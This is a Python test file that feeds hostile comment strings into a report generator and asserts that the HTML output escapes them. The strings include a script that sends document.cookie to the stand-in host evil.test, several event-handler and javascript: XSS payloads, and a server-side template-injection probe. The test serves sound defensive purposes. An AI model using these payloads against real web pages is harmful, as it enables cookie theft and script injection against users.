"""A problem of texts that brings hostile ones: from the data to the page they stay texts."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from torch import Tensor

import genrep_dist as gr
from tests.experiments import ROOT, experiment
from tests.report.test_page import Reader
from tests.toys import Blobs

pytestmark = pytest.mark.publishes

COMMENTS = (
    '<script>fetch("https://evil.test/" + document.cookie)</script>',
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><iframe src=javascript:alert(1)></iframe>",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}",
    "<!-- --><style>body{display:none}</style> &lt;b&gt; &amp;",
    "\u202eevil\u0000 \U0001f600 <svg/onload=alert(1)>",
)


class Hostile(Blobs):
    def texts(self, ids: Tensor) -> Sequence[str]:
        return [COMMENTS[int(sample) % len(COMMENTS)] for sample in ids]


def test_hostile_texts_stay_texts(tmp_path: Path) -> None:
    fields: dict[str, Any] = {"methods": ["ntk-final/target", "random"], "seeds": 1, "deletion": {"fractions": [0.0, 0.1]}}
    asked = experiment("tests.report.test_hostile_texts:Hostile", test_points=6, **fields)
    gr.run(asked, store=str(tmp_path), serial=True, search_path=[str(ROOT)])
    page = (tmp_path / "results/toy/report.html").read_text()
    reader = Reader(page)
    assert not {"iframe", "svg/onload=alert(1)"} & set(reader.tags)
    assert reader.tags.count("script") == 1
    assert not [name for name, _ in reader.attributes if name.startswith("on")]
    assert not [value for _, value in reader.attributes if value is not None and ("evil.test" in value or "javascript:" in value)]
    shown = [comment for comment in COMMENTS if " ".join(comment.split())[:20] in reader.text]
    assert len(shown) >= 3, "they are shown, as texts"
    assert "49" not in "".join(text for text in reader.texts if "{{" in text)
